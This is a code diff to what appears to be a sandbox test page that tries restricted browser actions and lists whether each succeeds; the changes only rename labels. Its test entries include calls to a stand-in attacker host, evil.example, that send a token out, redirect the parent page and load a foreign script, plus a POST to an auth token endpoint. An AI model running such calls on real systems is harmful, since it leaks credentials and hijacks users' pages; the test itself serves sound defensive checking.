@@ -8,13 +8,13 @@ const attempts: Readonly<Record<string, () => unknown>> = {
   'set a cookie': () => (document.cookie = 'sandbox-scenario=x'),
   'open a database': () => indexedDB.open('x'),
   'open the caches': () => caches.keys(),
-  'lead the page away': () => (parent.location.href = 'https://evil.example/'),
+  'navigate the page': () => (parent.location.href = 'https://evil.example/'),
   'replace the whole page': () => {
     parent.location.replace('https://evil.example/');
   },
   'call the API': () => fetch(new URL('/api/sys/auth/token/info', document.baseURI), { method: 'POST' }),
-  'send something home': () => fetch('https://evil.example/?token'),
-  'load a script from home': () =>
+  'send data to another origin': () => fetch('https://evil.example/?token'),
+  'load a script of another origin': () =>
     new Promise((resolve, reject) => {
       const script = document.createElement('script');
       script.onload = resolve;
@@ -39,7 +39,7 @@ async function tryAll(): Promise<void> {
     line.textContent = `${name}: ${outcome}`;
     list.append(line);
   }
-  document.body.append('That was all.');
+  document.body.append('All attempts are done.');
 }
 
 void tryAll();
